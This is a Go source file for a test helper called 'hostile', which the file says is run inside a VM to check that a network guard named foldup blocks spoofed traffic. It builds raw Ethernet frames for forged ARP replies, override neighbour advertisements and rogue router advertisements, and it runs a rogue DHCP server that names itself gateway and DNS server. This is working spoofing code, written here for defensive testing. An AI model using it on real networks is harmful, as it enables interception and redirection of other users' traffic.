// Command hostile sends, from inside a guest or a container, the frames a
// hostile member would: forged ARP, neighbour advertisements, router
// advertisements, and DHCP answers from a port other than the server's.
// It writes whole Ethernet frames to a packet socket, so that nothing in
// the guest's own kernel stands between it and foldup's guard.
// TestVMHostile builds it (static) and runs it in a VM.
//
//	hostile IFACE arp SENDER-MAC SENDER-IP   gratuitous ARP reply: SENDER-IP is at SENDER-MAC
//	hostile IFACE na TARGET                  unsolicited override NA: TARGET is at IFACE's MAC
//	hostile IFACE ra                         RA: default router, prefix 2001:db8:bad::/64
//	hostile IFACE udp SPORT DPORT             a UDP datagram from IFACE's address to the
//	                                         broadcast address (IPv4), DPORT 546 or 547 to
//	                                         ff02::1:2 and ff02::1 (IPv6: any other DPORT goes
//	                                         by IPv4)
//	hostile IFACE dhcpd SPORT YIADDR SECONDS a rogue DHCP server: answers each DISCOVER
//	                                         with an OFFER of YIADDR and each REQUEST with
//	                                         an ACK, itself as router and DNS server, from
//	                                         SPORT, for SECONDS
//
// Every frame goes out with IFACE's own MAC as its Ethernet source, and
// IPv6 ones from IFACE's EUI-64 link-local address, so that what the
// guard must catch is the forged claim inside, not the frame's origin.
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: hostile IFACE arp|na|ra|udp|dhcpd ARGS...")
		os.Exit(2)
	}
	ifi, err := net.InterfaceByName(os.Args[1])
	if err != nil {
		fail(err)
	}
	mac := ifi.HardwareAddr
	var frame []byte
	switch os.Args[2] {
	case "arp":
		sha, err := net.ParseMAC(arg(3))
		if err != nil {
			fail(err)
		}
		spa := netip.MustParseAddr(arg(4)).As4()
		frame = ether(broadcast, mac, 0x0806)
		frame = binary.BigEndian.AppendUint16(frame, 1)      // Ethernet
		frame = binary.BigEndian.AppendUint16(frame, 0x0800) // IPv4
		frame = append(frame, 6, 4)
		frame = binary.BigEndian.AppendUint16(frame, 2) // reply
		frame = append(frame, sha...)
		frame = append(frame, spa[:]...)
		frame = append(frame, broadcast...)
		frame = append(frame, spa[:]...)
	case "na":
		target := netip.MustParseAddr(arg(3)).As16()
		body := []byte{136, 0, 0, 0, 0x20, 0, 0, 0} // override
		body = append(body, target[:]...)
		body = append(body, 2, 1) // target link-layer address
		body = append(body, mac...)
		frame = icmp6(mac, body)
	case "udp":
		sport, dport := port(arg(3)), port(arg(4))
		if dport == 546 || dport == 547 {
			frame = udp6(mac, sport, dport, []byte("foldup-test"))
		} else {
			frame = udp4(mac, ipv4Of(ifi), sport, dport, []byte("foldup-test"))
		}
	case "dhcpd":
		dhcpd(ifi, port(arg(3)), netip.MustParseAddr(arg(4)), arg(5))
		return
	case "ra":
		body := []byte{134, 0, 0, 0, 64, 0}
		body = binary.BigEndian.AppendUint16(body, 1800) // router lifetime
		body = append(body, make([]byte, 8)...)          // reachable, retrans
		body = append(body, 1, 1)                        // source link-layer address
		body = append(body, mac...)
		prefix := netip.MustParseAddr("2001:db8:bad::").As16()
		body = append(body, 3, 4, 64, 0xc0) // prefix information: on-link, autonomous
		body = binary.BigEndian.AppendUint32(body, 86400)
		body = binary.BigEndian.AppendUint32(body, 14400)
		body = append(body, 0, 0, 0, 0)
		body = append(body, prefix[:]...)
		frame = icmp6(mac, body)
	default:
		fail(fmt.Errorf("unknown frame %q", os.Args[2]))
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		fail(err)
	}
	if err := unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: ifi.Index, Halen: 6}); err != nil {
		fail(err)
	}
	fmt.Printf("sent %s, %d bytes\n", os.Args[2], len(frame))
}

var (
	broadcast = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	allNodes  = netip.MustParseAddr("ff02::1")
)

func ether(dst, src net.HardwareAddr, typ uint16) []byte {
	b := append(append([]byte{}, dst...), src...)
	return binary.BigEndian.AppendUint16(b, typ)
}

// icmp6 wraps an ICMPv6 message (checksum zero) in an IPv6 packet from
// mac's EUI-64 link-local address to all nodes, hop limit 255, and in an
// Ethernet frame.
func icmp6(mac net.HardwareAddr, body []byte) []byte {
	return ip6(mac, allNodes, 58, 255, 2, body)
}

// ip6 wraps a message of protocol proto (checksum zero, at offset csum)
// in an IPv6 packet from mac's EUI-64 link-local address to dst, with its
// checksum filled in (RFC 8200 8.1), and in an Ethernet frame to dst's
// multicast MAC.
func ip6(mac net.HardwareAddr, dst netip.Addr, proto, hops byte, csum int, body []byte) []byte {
	src := [16]byte{0: 0xfe, 1: 0x80, 8: mac[0] ^ 2, 9: mac[1], 10: mac[2], 11: 0xff, 12: 0xfe, 13: mac[3], 14: mac[4], 15: mac[5]}
	d := dst.As16()
	binary.BigEndian.PutUint16(body[csum:], ^sum16(src[:], d[:], binary.BigEndian.AppendUint32(nil, uint32(len(body))), []byte{0, 0, 0, proto}, body))
	frame := ether(net.HardwareAddr{0x33, 0x33, d[12], d[13], d[14], d[15]}, mac, 0x86dd)
	frame = append(frame, 0x60, 0, 0, 0)
	frame = binary.BigEndian.AppendUint16(frame, uint16(len(body)))
	frame = append(frame, proto, hops)
	frame = append(frame, src[:]...)
	frame = append(frame, d[:]...)
	return append(frame, body...)
}

// sum16 is the Internet checksum's ones'-complement sum of bs, taken as
// one run of bytes each padded to an even length.
func sum16(bs ...[]byte) uint16 {
	var sum uint32
	for _, b := range bs {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return uint16(sum)
}

// dhcpd answers DHCP clients from sport until the time given has passed,
// printing a line for each answer, and "sent N" at the end.
func dhcpd(ifi *net.Interface, sport uint16, yiaddr netip.Addr, secs string) {
	d, err := time.ParseDuration(secs + "s")
	if err != nil {
		fail(err)
	}
	own := ipv4Of(ifi)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_IP)))
	if err != nil {
		fail(err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: ifi.Index}); err != nil {
		fail(err)
	}
	tv := unix.NsecToTimeval((200 * time.Millisecond).Nanoseconds())
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	sent := 0
	buf := make([]byte, 2048)
	for end := time.Now().Add(d); time.Now().Before(end); {
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil || n < 14+20+8+240 {
			continue
		}
		ip := buf[14:n]
		ihl := int(ip[0]&0xf) * 4
		if ip[9] != 17 || len(ip) < ihl+8+240 || binary.BigEndian.Uint16(ip[ihl+2:]) != 67 {
			continue
		}
		bootp := ip[ihl+8:]
		if bootp[0] != 1 || binary.BigEndian.Uint32(bootp[236:]) != 0x63825363 {
			continue
		}
		var typ byte
		for o := bootp[240:]; len(o) >= 2 && o[0] != 255; o = o[2+int(o[1]):] {
			if o[0] == 53 && o[1] == 1 {
				typ = o[2]
			}
			if len(o) < 2+int(o[1]) {
				break
			}
		}
		reply := byte(2) // OFFER
		switch typ {
		case 1:
		case 3:
			reply = 5 // ACK
		default:
			continue
		}
		yi, gw := yiaddr.As4(), own.As4()
		out := make([]byte, 240)
		out[0], out[1], out[2] = 2, 1, 6
		copy(out[4:8], bootp[4:8])                   // xid
		binary.BigEndian.PutUint16(out[10:], 0x8000) // broadcast
		copy(out[16:20], yi[:])
		copy(out[20:24], gw[:])
		copy(out[28:44], bootp[28:44]) // chaddr
		binary.BigEndian.PutUint32(out[236:], 0x63825363)
		out = append(out, 53, 1, reply, 54, 4)
		out = append(out, gw[:]...)
		out = append(out, 51, 4, 0, 0, 0x0e, 0x10, 1, 4, 255, 255, 255, 0, 3, 4)
		out = append(out, gw[:]...)
		out = append(out, 6, 4)
		out = append(out, gw[:]...)
		out = append(out, 255)
		frame := udp4(ifi.HardwareAddr, own, sport, 68, out)
		if err := unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: ifi.Index, Halen: 6}); err == nil {
			sent++
			fmt.Printf("answered %d with %d\n", typ, reply)
		}
	}
	fmt.Printf("sent %d\n", sent)
}

// udp4 is a UDP datagram (no checksum, which IPv4 allows) from src to
// the broadcast address, in a broadcast Ethernet frame.
func udp4(mac net.HardwareAddr, src netip.Addr, sport, dport uint16, payload []byte) []byte {
	frame := ether(broadcast, mac, 0x0800)
	s := src.As4()
	ip := []byte{0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0}
	binary.BigEndian.PutUint16(ip[2:], uint16(20+8+len(payload)))
	ip = append(ip, s[:]...)
	ip = append(ip, 255, 255, 255, 255)
	binary.BigEndian.PutUint16(ip[10:], ^sum16(ip))
	frame = append(frame, ip...)
	frame = binary.BigEndian.AppendUint16(frame, sport)
	frame = binary.BigEndian.AppendUint16(frame, dport)
	frame = binary.BigEndian.AppendUint16(frame, uint16(8+len(payload)))
	frame = append(frame, 0, 0)
	return append(frame, payload...)
}

// udp6 is a UDP datagram from mac's EUI-64 link-local address to
// ff02::1:2 (to 547) or ff02::1 (anything else), checksummed.
func udp6(mac net.HardwareAddr, sport, dport uint16, payload []byte) []byte {
	dst := allNodes
	if dport == 547 {
		dst = netip.MustParseAddr("ff02::1:2")
	}
	body := binary.BigEndian.AppendUint16(nil, sport)
	body = binary.BigEndian.AppendUint16(body, dport)
	body = binary.BigEndian.AppendUint16(body, uint16(8+len(payload)))
	body = append(body, 0, 0)
	return ip6(mac, dst, 17, 64, 6, append(body, payload...))
}

func ipv4Of(ifi *net.Interface) netip.Addr {
	addrs, err := ifi.Addrs()
	if err != nil {
		fail(err)
	}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			return p.Addr()
		}
	}
	fail(fmt.Errorf("%s has no IPv4 address", ifi.Name))
	return netip.Addr{}
}

func port(s string) uint16 {
	n, err := strconv.ParseUint(s, 10, 16)
	if err != nil {
		fail(err)
	}
	return uint16(n)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func arg(i int) string {
	if i >= len(os.Args) {
		fail(fmt.Errorf("missing argument %d", i))
	}
	return os.Args[i]
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "hostile:", err)
	os.Exit(1)
}
